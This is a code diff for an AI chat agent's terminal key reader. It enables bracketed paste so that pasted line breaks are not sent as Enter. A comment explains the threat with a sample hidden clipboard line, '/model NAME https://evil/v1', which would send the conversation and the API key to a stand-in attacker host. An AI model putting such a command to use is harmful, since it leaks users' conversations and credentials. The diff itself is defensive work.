@@ -7,6 +7,13 @@ and nothing is left in the terminal's buffer for a dialog to read. Enter queues 
 Esc clears what is typed and queued; Backspace and Ctrl-U edit. Escape sequences (arrow
 keys, or escapes inside pasted text) are dropped whole, never kept as text.
 
+A paste presses no Enter: bracketed paste mode is on while the reader reads, as it is at the
+prompt, and the line breaks of a paste stay in the line being typed. Without it a paste is
+typed keys, each of its line breaks an Enter, and a hostile clipboard's hidden lines would be
+queued as messages of their own, a line starting with `/` run as a slash command
+(`/model NAME https://evil/v1` sends the conversation and the key there) without the person
+ever pressing Enter on it.
+
 A dialog (approval, a server's question) pauses the reader: the line being typed when the
 dialog is drawn is discarded, as the dialog discards every key typed before it was on
 screen (agent.ui.dialogs.fresh_keys), and a queued message stays queued: typed-ahead keys never
@@ -45,6 +52,9 @@ _BACKSPACE = "\x7f\x08"
 _CLEAR_LINE = "\x15"  # Ctrl-U
 _C1_STATES = {"\x9b": "csi", "\x9d": "string", "\x90": "string", "\x98": "string",
               "\x9e": "string", "\x9f": "string"}  # fmt: skip
+# Bracketed paste: the mode's switches, and the markers a terminal puts around a paste.
+PASTE_MODE_ON, PASTE_MODE_OFF = "\x1b[?2004h", "\x1b[?2004l"
+PASTE_START, PASTE_END = "\x1b[200~", "\x1b[201~"
 
 
 @dataclass
@@ -55,6 +65,9 @@ class KeyReader:
     queued: list[str] = field(default_factory=list)
     cleared: bool = False  # Esc was pressed since the last look
     _state: str = "text"  # text, escape, csi, string, string-escape, ss3
+    _csi: str = ""  # the parameters of the control sequence being read
+    _pasting: bool = False  # between a paste's start and end markers
+    _after_cr: bool = False  # the last pasted character was a CR (a CR LF is one break)
 
     def feed(self, text: str) -> list[str]:
         """Apply typed `text`; returns the lines Enter queued in it."""
@@ -77,19 +90,24 @@ class KeyReader:
         """Nothing followed a lone ESC in time: it was the Esc key, which clears what is typed
         and queued."""
         if self._state == "escape":
-            self._state = "text"
+            self._state, self._pasting = "text", False  # Esc also ends a paste cut short
             self.draft, self.queued, self.cleared = "", [], True
 
     def _key(self, char: str) -> str | None:
         state = self._state
         if state == "escape":
             self._state = {"[": "csi", "O": "ss3"}.get(char, "text")
+            self._csi = ""
             if char in _STRING_INTRODUCERS:
                 self._state = "string"
             return None  # any other escape pair (Alt+key) is dropped
         if state == "csi":
             if "\x40" <= char <= "\x7e":
                 self._state = "text"
+                if char == "~" and self._csi in ("200", "201"):  # a paste starts or ends
+                    self._pasting, self._after_cr = self._csi == "200", False
+            elif len(self._csi) < 8:  # parameters of a paste marker are short; the rest is junk
+                self._csi += char
             return None
         if state == "ss3":
             self._state = "text"
@@ -103,10 +121,17 @@ class KeyReader:
         return self._text_key(char)
 
     def _text_key(self, char: str) -> str | None:
+        after_cr, self._after_cr = self._after_cr, False
         if char == _ESC:
             self._state = "escape"
         elif char in _C1_STATES:  # the one-character forms of CSI, OSC, DCS...
-            self._state = _C1_STATES[char]
+            self._state, self._csi = _C1_STATES[char], ""
+        elif self._pasting and char in "\r\n":
+            # A pasted line break is text, never Enter: the person sends the paste (or clears
+            # it) with a key of their own, as at the prompt.
+            if not (char == "\n" and after_cr):
+                self.draft += "\n"
+            self._after_cr = char == "\r"
         elif char in "\r\n":
             line, self.draft = self.draft.strip(), ""
             return line or None
@@ -171,7 +196,17 @@ class TypeAhead:
     def take_prompt_leftovers(self, source: Input) -> None:
         """Take the keys the prompt read on `source` after the Enter that sent its message,
         before any dialog can: lines are queued, the rest becomes the line being typed."""
-        self._take("".join(key.data for key in get_typeahead(source)))
+        from prompt_toolkit.key_binding import KeyPress
+        from prompt_toolkit.keys import Keys
+
+        def typed(key: KeyPress) -> str:  # a paste's data is all of it, without its markers
+            return (
+                f"{PASTE_START}{key.data}{PASTE_END}"
+                if key.key == Keys.BracketedPaste
+                else key.data
+            )
+
+        self._take("".join(typed(key) for key in get_typeahead(source)))
 
     @contextlib.contextmanager
     def serving(self) -> Iterator[None]:
@@ -222,6 +257,7 @@ class TypeAhead:
         except (OSError, termios.error, RuntimeError):
             return  # no terminal to read from: typing ahead is simply off
         self._fd, self._mode = fd, mode
+        _terminal_mode(PASTE_MODE_ON)  # a paste comes marked, so its line breaks are text
 
     def _stop(self) -> None:
         if self._escape_timer is not None:  # no more keys will be read: a lone ESC was Esc
@@ -234,6 +270,7 @@ class TypeAhead:
             asyncio.get_running_loop().remove_reader(fd)
         with contextlib.suppress(OSError, termios.error):
             termios.tcsetattr(fd, termios.TCSANOW, mode)
+        _terminal_mode(PASTE_MODE_OFF)  # the prompt and dialogs turn it on for themselves
 
     def _read(self) -> None:
         if self._fd is None:
@@ -276,6 +313,14 @@ class TypeAhead:
             self._on_cleared()
         if self.keys.draft != before:
             self._on_draft(self.keys.draft)
+
+
+def _terminal_mode(sequence: str) -> None:
+    """Switch a mode of the terminal the chat draws on (the real one, not patched stdout)."""
+    out = sys.__stdout__
+    with contextlib.suppress(OSError, ValueError, AttributeError):
+        if out is not None and out.isatty():
+            os.write(out.fileno(), sequence.encode())
 
 
 _ACTIVE: TypeAhead | None = None
